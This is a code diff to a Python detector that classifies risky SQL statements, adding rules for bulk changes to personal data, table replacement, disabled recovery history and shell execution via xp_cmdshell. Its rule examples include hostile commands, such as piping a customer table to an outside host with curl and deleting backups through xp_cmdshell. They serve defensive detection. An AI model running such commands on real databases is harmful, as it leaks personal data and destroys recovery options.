@@ -26,7 +26,7 @@ logging.getLogger("sqlglot").setLevel(logging.CRITICAL)
 PiiLookup = Callable[[str], Sequence[str] | None]
 """Table name → its catalogued PII fields, or None when the table is not catalogued."""
 
-DIALECTS = ("postgres", "mysql", "snowflake", "bigquery")
+DIALECTS = ("postgres", "mysql", "snowflake", "bigquery", "databricks", "tsql")
 
 # Column names that are personal data wherever they live; used only for tables
 # the catalog does not know, so a bare install still notices `SELECT ssn …`.
@@ -176,6 +176,67 @@ SQL_RULES: tuple[SqlRule, ...] = (
         ["UPDATE customers SET email = 'a@b.example' WHERE id = 7"],
     ),
     _rule(
+        "sql.bulk_change_pii",
+        "pii",
+        "high",
+        "require_approval",
+        "Deletes or changes many rows of {target}, which holds personal data: the WHERE is a "
+        "range or condition, not a lookup of particular records by key.",
+        [
+            "DELETE FROM customers WHERE created_at < '2021-01-01'",
+            "UPDATE customers SET email = NULL WHERE churn_score > 0.8",
+            "DELETE FROM customers WHERE id IN (SELECT customer_id FROM churned)",
+            "MERGE INTO customers c USING churned x ON c.id = x.id WHEN MATCHED THEN DELETE",
+        ],
+        [
+            "DELETE FROM customers WHERE id = 7",
+            "UPDATE customers SET email = NULL WHERE email = 'pat@example.com'",
+            "DELETE FROM sessions WHERE expires_at < now()",
+        ],
+    ),
+    _rule(
+        "sql.replace_table",
+        "destructive",
+        "high",
+        "require_approval",
+        "Replaces the table {target}: every row it held is dropped and rewritten "
+        "(CREATE OR REPLACE TABLE, INSERT OVERWRITE).",
+        [
+            "CREATE OR REPLACE TABLE analytics.orders AS SELECT * FROM staging.orders",
+            "INSERT OVERWRITE TABLE sales.orders SELECT * FROM sales.orders_tmp",
+        ],
+        [
+            "CREATE OR REPLACE VIEW v AS SELECT 1",
+            "CREATE OR REPLACE TEMPORARY TABLE t AS SELECT 1",
+            "INSERT INTO sales.orders SELECT * FROM x",
+            "CREATE TABLE IF NOT EXISTS t (id int)",
+        ],
+    ),
+    _rule(
+        "sql.history_off",
+        "backups",
+        "high",
+        "require_approval",
+        "Turns off or purges the database's own recovery history ({target}): time travel, "
+        "point-in-time restore or WAL archiving, so a mistake can no longer be undone.",
+        [
+            "ALTER TABLE analytics.orders SET DATA_RETENTION_TIME_IN_DAYS = 0",
+            "ALTER DATABASE prod SET DATA_RETENTION_TIME_IN_DAYS=0",
+            "VACUUM sales.orders RETAIN 0 HOURS",
+            "SET spark.databricks.delta.retentionDurationCheck.enabled = false",
+            "ALTER TABLE t SET TBLPROPERTIES ('delta.logRetentionDuration' = 'interval 0 days')",
+            "ALTER DATABASE ledger SET RECOVERY SIMPLE",
+            "ALTER SYSTEM SET archive_mode = off",
+        ],
+        [
+            "ALTER TABLE analytics.orders SET DATA_RETENTION_TIME_IN_DAYS = 30",
+            "VACUUM sales.orders",
+            "VACUUM sales.orders RETAIN 168 HOURS",
+            "ALTER DATABASE ledger SET RECOVERY FULL",
+            "ALTER SYSTEM SET archive_mode = on",
+        ],
+    ),
+    _rule(
         "sql.grant_public",
         "access",
         "critical",
@@ -312,9 +373,13 @@ SQL_RULES: tuple[SqlRule, ...] = (
         "exfiltration",
         "critical",
         "require_approval",
-        "COPY … PROGRAM runs a shell command on the database server ({target}).",
-        ["COPY customers TO PROGRAM 'curl -T - https://x.example'"],
-        ["COPY customers FROM '/tmp/import.csv'"],
+        "Runs a shell command on the database server ({target}): COPY … PROGRAM, xp_cmdshell.",
+        [
+            "COPY customers TO PROGRAM 'curl -T - https://x.example'",
+            "EXEC sp_configure 'xp_cmdshell', 1",
+            "EXEC xp_cmdshell 'del /s /q D:\\backups'",
+        ],
+        ["COPY customers FROM '/tmp/import.csv'", "EXEC sp_configure 'xp_cmdshell', 0"],
     ),
     _rule(
         "sql.export",
@@ -484,6 +549,31 @@ _SAFE_RAW = re.compile(
 )
 
 
+_EXPLAIN = re.compile(
+    r"^explain\s+(?P<opts>(?:(?:analy[sz]e|verbose|costs|buffers|timing|summary|"
+    r"format\s+\w+)\s+|\([^)]{0,300}\)\s*)*)(?P<rest>(?:select|insert|update|delete|with|merge|"
+    r"create|replace|values|table|execute)\b.*)$",
+    re.I | re.S,
+)
+_MULTI_DIALECT_MAX = 2000
+_HISTORY_OFF = re.compile(
+    r"^alter\s+(?:table|schema|database|account)\s+(?:if\s+exists\s+)?(?P<a>\S+)?.*?"
+    r"\b(?:min_)?data_retention_time_in_days\s*=\s*0\b"
+    r"|^vacuum\s+(?P<v>\S+).*\bretain\s+0+(?:\.0+)?\s+hours?\b"
+    r"|^set\s+(?P<c>spark\.databricks\.delta\.retentionDurationCheck\.enabled)\s*=\s*'?false\b"
+    r"|^alter\s+table\s+(?P<p>\S+)\s+set\s+tblproperties\s*\(.*"
+    r"delta\.(?:log|deletedFile)RetentionDuration['\"`]?\s*=\s*['\"]interval\s+0+\s"
+    r"|^alter\s+database\s+(?P<r>\S+)\s+set\s+recovery\s+simple\b"
+    r"|^alter\s+system\s+set\s+(?P<w>archive_mode)\s*(?:=|to)\s*'?off\b",
+    re.I | re.S,
+)
+_ANALYZE = re.compile(r"\banaly[sz]e\b", re.I)
+_ANALYZE_OFF = re.compile(r"\banaly[sz]e\s+(?:false|off|0)\b", re.I)
+# A WHERE that picks particular rows: equality or IN-list on a key-like column.
+_KEY_COLUMN = re.compile(
+    r"(?:id|pk|uuid|guid|key|email|username|\w+_(?:id|uuid|key|pk|email|number|no))", re.I
+)
+_MAX_KEY_LIST = 100
 _SHARE_ACCOUNTS = re.compile(r"^alter\s+share\s+(?P<s>\S+)\s+(?:add|set)\s+accounts\b", re.I)
 _MASKING_OFF = re.compile(
     r"^alter\s+table\s+(?:if\s+exists\s+)?(?P<t>\S+)\s+(?:modify|alter)\s+(?:column\s+)?"
@@ -578,14 +668,21 @@ _OUTFILE_TAIL = re.compile(
 )
 _UNLOAD = re.compile(r"^unload\s*\(\s*'((?:[^']|'')*)'\s*\)\s*to\s+'([^']*)'", re.I)
 _COPY_PROGRAM = re.compile(r"^copy\b.*?\bto\s+program\s+('(?:[^']|'')*')", re.I)
+# T-SQL: the database server's own shell, switched on or called
+_XP_CMDSHELL = re.compile(
+    r"^(?:exec(?:ute)?\s+)?(?:master\.(?:dbo)?\.)?(?:sp_configure\s+N?'xp_cmdshell'\s*,\s*1\b|"
+    r"xp_cmdshell\s+N?(?P<c>'(?:[^']|'')*'))",
+    re.I,
+)
 _COPY_INTO_LOCATION = re.compile(
     r"^copy\s+into\s+(@[\w.$/%~-]+|'(?:s3|gcs|gs|azure|https?)://[^']*')", re.I
 )
 _EXPORT_URI = re.compile(r"\buri\s*=\s*(?:'([^']*)'|\"([^\"]*)\")", re.I)
 _DROP_KIND = re.compile(
     rf"^drop\s+(?:temporary\s+|temp\s+|materialized\s+|external\s+|foreign\s+)?"
-    rf"(?P<kind>table|view|schema|database|index|sequence|function|procedure|trigger|type|"
-    rf"extension|stage|warehouse|share|dataset)\b(?:\s+if\s+exists)?\s+(?P<t>{_IDENT})",
+    rf"(?P<kind>table|view|schema|database|catalog|index|sequence|function|procedure|trigger|"
+    rf"type|extension|stage|warehouse|share|dataset|volume|stream|task|pipe)\b"
+    rf"(?:\s+if\s+exists)?\s+(?P<t>{_IDENT})",
     re.I,
 )
 
@@ -675,6 +772,35 @@ def _is_tautology(cond: exp.Expression | None) -> bool:
     return False
 
 
+def _is_key_lookup(cond: exp.Expression) -> bool:
+    """True when the condition picks particular rows: `id = 7`, `email = 'x'`, `id IN (1, 2)`,
+    ANDed with anything, or ORs of such lookups. Ranges, thresholds and subqueries are not."""
+    if isinstance(cond, exp.Paren):
+        return _is_key_lookup(cond.this)
+    if isinstance(cond, exp.And):
+        return _is_key_lookup(cond.this) or _is_key_lookup(cond.expression)
+    if isinstance(cond, exp.Or):
+        return _is_key_lookup(cond.this) and _is_key_lookup(cond.expression)
+    if isinstance(cond, exp.EQ):
+        col, value = cond.this, cond.expression
+        if isinstance(value, exp.Column) and not isinstance(col, exp.Column):
+            col, value = value, col
+        return (
+            isinstance(col, exp.Column)
+            and bool(_KEY_COLUMN.fullmatch(col.name or ""))
+            and isinstance(value, exp.Literal | exp.Placeholder | exp.Parameter)
+        )
+    if isinstance(cond, exp.In):
+        values = cond.expressions
+        return (
+            isinstance(cond.this, exp.Column)
+            and bool(_KEY_COLUMN.fullmatch(cond.this.name or ""))
+            and 0 < len(values) <= _MAX_KEY_LIST
+            and all(isinstance(v, exp.Literal | exp.Placeholder | exp.Parameter) for v in values)
+        )
+    return False
+
+
 class SqlDetector:
     """Assess SQL text; build once, call `assess` many times (it keeps no state)."""
 
@@ -739,6 +865,12 @@ class SqlDetector:
         clean = _clean(stmt)
         if not clean:
             return
+        m = _EXPLAIN.match(clean)
+        if m:
+            # EXPLAIN ANALYZE runs the statement to time it: a write explained is a write done.
+            if _ANALYZE.search(m.group("opts")) and not _ANALYZE_OFF.search(m.group("opts")):
+                self._one(m.group("rest"), result)
+            return
         if self._raw(clean, result):
             return
         tree = self._parse(clean)
@@ -759,23 +891,28 @@ class SqlDetector:
         self._tree(tree, clean, result)
 
     def _parse(self, clean: str) -> exp.Expression | None:
-        for dialect in self._dialects(clean):
+        dialects = self._dialects(clean)
+        if len(clean) > _MULTI_DIALECT_MAX:  # each retry costs a full parse: long ones get one
+            dialects = dialects[:1]
+        for dialect in dialects:
             try:
                 trees = sqlglot.parse(clean, read=dialect)
             except SqlglotError:
                 continue
             except (ValueError, TypeError, RecursionError, AttributeError, KeyError):
                 continue
-            trees = [t for t in trees if t is not None]
-            if len(trees) == 1:
-                return trees[0]
+            parsed = [t for t in trees if isinstance(t, exp.Expression)]
+            if len(parsed) == 1:
+                return parsed[0]
         return None
 
     @staticmethod
     def _dialects(clean: str) -> Sequence[str]:
         low = clean[:200].lower()
         if "`" in clean:
-            return ("mysql", "bigquery", "postgres", "snowflake")
+            return ("mysql", "bigquery", "databricks", "postgres", "snowflake")
+        if "[" in clean or " top " in low or " top(" in low or "dbo." in low:
+            return ("tsql", "postgres", "snowflake", "mysql")
         if low.startswith("export data"):
             return ("bigquery",)
         if low.startswith("copy into") or " share " in low or "@" in clean:
@@ -788,6 +925,18 @@ class SqlDetector:
         """Statements read with our own patterns. Returns True when fully handled."""
         low = clean.lower()
         head = low.split(" ", 1)[0]
+        if head in ("exec", "execute", "sp_configure", "xp_cmdshell", "master..xp_cmdshell"):
+            m = _XP_CMDSHELL.match(clean)
+            if m:
+                target = m.group("c") or "xp_cmdshell switched on"
+                self._add(result, "sql.copy_program", target.strip("'")[:60], clean)
+                return True
+        if head in ("alter", "vacuum", "set"):
+            m = _HISTORY_OFF.match(clean)
+            if m:
+                target = next((g for g in m.groups() if g), "recovery history")
+                self._add(result, "sql.history_off", _unquote(target), clean)
+                return True
         if head in ("alter", "drop"):
             m = _SHARE_ACCOUNTS.match(clean)
             if m:
@@ -969,23 +1118,18 @@ class SqlDetector:
                     result.use(name).whole_rows = True
                 self._add(result, "sql.alter_drop", name or "a table", clean)
             return
-        if isinstance(tree, exp.Delete):
+        if isinstance(tree, exp.Delete | exp.Update):
             self._collect(tree, result)
-            target = tree.this
-            name = _table_name(target) if isinstance(target, exp.Table) else None
-            if name:
-                result.use(name).whole_rows = True
-            where = tree.args.get("where")
-            if where is None or _is_tautology(where):
-                self._add(result, "sql.delete_all", name or "a table", clean)
+            self._write(tree, clean, result)
             return
-        if isinstance(tree, exp.Update):
+        if self._replaces(tree):
+            names = self._collect_tables(tree.this, result, whole_rows=True)
+            self._add(result, "sql.replace_table", ", ".join(names) or "a table", clean)
             self._collect(tree, result)
-            target = tree.this
-            name = _table_name(target) if isinstance(target, exp.Table) else None
-            where = tree.args.get("where")
-            if where is None or _is_tautology(where):
-                self._add(result, "sql.update_all", name or "a table", clean)
+            return
+        if isinstance(tree, exp.Merge):
+            self._collect(tree, result)
+            self._merge(tree, clean, result)
             return
         if isinstance(tree, exp.Grant | exp.Revoke):
             self._grant_tree(tree, clean, result)
@@ -1004,14 +1148,75 @@ class SqlDetector:
             self._add(result, "sql.disable_rls", "this session", clean)
             return
         self._collect(tree, result)
+        # A CTE whose body deletes or updates (`WITH gone AS (DELETE … RETURNING *) SELECT …`)
+        for node in tree.find_all(exp.Delete, exp.Update):
+            if isinstance(node, exp.Delete | exp.Update):
+                self._write(node, clean, result)
+
+    @staticmethod
+    def _replaces(tree: exp.Expression) -> bool:
+        """CREATE OR REPLACE TABLE (not a view, not a temporary table) or INSERT OVERWRITE."""
+        if isinstance(tree, exp.Insert):
+            return bool(tree.args.get("overwrite"))
+        return (
+            isinstance(tree, exp.Create)
+            and bool(tree.args.get("replace"))
+            and str(tree.args.get("kind") or "").upper() == "TABLE"
+            and tree.find(exp.TemporaryProperty) is None
+        )
+
+    def _merge(self, tree: exp.Merge, clean: str, result: SqlResult) -> None:
+        """MERGE … WHEN MATCHED THEN DELETE/UPDATE: rows picked by a join, never by key."""
+        target = tree.this
+        name = _table_name(target) if isinstance(target, exp.Table) else None
+        whens = tree.args.get("whens")
+        writes = [
+            w
+            for w in (whens.expressions if whens is not None else [])
+            if isinstance(w.args.get("then"), exp.Update)
+            or str(w.args.get("then") or "").upper() == "DELETE"
+        ]
+        fields = self._pii(name) if name else None
+        if writes and fields:
+            self._add(result, "sql.bulk_change_pii", f"{name} ({', '.join(fields)})", clean)
+
+    def _write(self, node: exp.Delete | exp.Update, clean: str, result: SqlResult) -> None:
+        """DELETE/UPDATE: every row, or many rows of a table that holds personal data."""
+        target = node.this
+        name = _table_name(target) if isinstance(target, exp.Table) else None
+        if name and isinstance(node, exp.Delete):
+            result.use(name).whole_rows = True
+        where = node.args.get("where")
+        joined = isinstance(target, exp.Table) and bool(target.args.get("joins"))
+        if joined and where is None:  # T-SQL `DELETE o FROM orders o JOIN …`: the join filters
+            fields = self._pii(name) if name else None
+            if fields:
+                self._add(result, "sql.bulk_change_pii", f"{name} ({', '.join(fields)})", clean)
+            return
+        if where is None or _is_tautology(where):
+            rule = "sql.delete_all" if isinstance(node, exp.Delete) else "sql.update_all"
+            self._add(result, rule, name or "a table", clean)
+            return
+        fields = self._pii(name) if name else None
+        if fields and not _is_key_lookup(where.this):
+            self._add(result, "sql.bulk_change_pii", f"{name} ({', '.join(fields)})", clean)
 
     def _drop(self, kind: str, names: list[str], clean: str, result: SqlResult) -> None:
         target = f"{kind.lower()} {', '.join(names) or ''}".strip()
-        if kind in ("DATABASE", "SCHEMA", "DATASET", "SHARE", "WAREHOUSE"):
+        if kind in ("DATABASE", "SCHEMA", "DATASET", "SHARE", "WAREHOUSE", "CATALOG"):
             result.schemas.extend(names)
             self._add(result, "sql.drop_database", target, clean)
             return
-        if kind in ("INDEX", "SEQUENCE", "FUNCTION", "PROCEDURE", "TRIGGER", "TYPE"):
+        if kind in (
+            "INDEX",
+            "SEQUENCE",
+            "FUNCTION",
+            "PROCEDURE",
+            "TRIGGER",
+            "TYPE",
+            "STREAM",
+            "TASK",
+        ):
             return
         for name in names:
             result.use(name).whole_rows = True
@@ -1188,9 +1393,10 @@ class SqlDetector:
     def _is_projection(node: exp.Expression, scope: exp.Expression) -> bool:
         if not isinstance(scope, exp.Select):
             return False
-        while node.parent is not None and node.parent is not scope:
-            node = node.parent
-        return node.arg_key == "expressions"
+        current: exp.Expr = node
+        while current.parent is not None and current.parent is not scope:
+            current = current.parent
+        return current.arg_key == "expressions"
 
     # -- personal data ----------------------------------------------------------------------
 
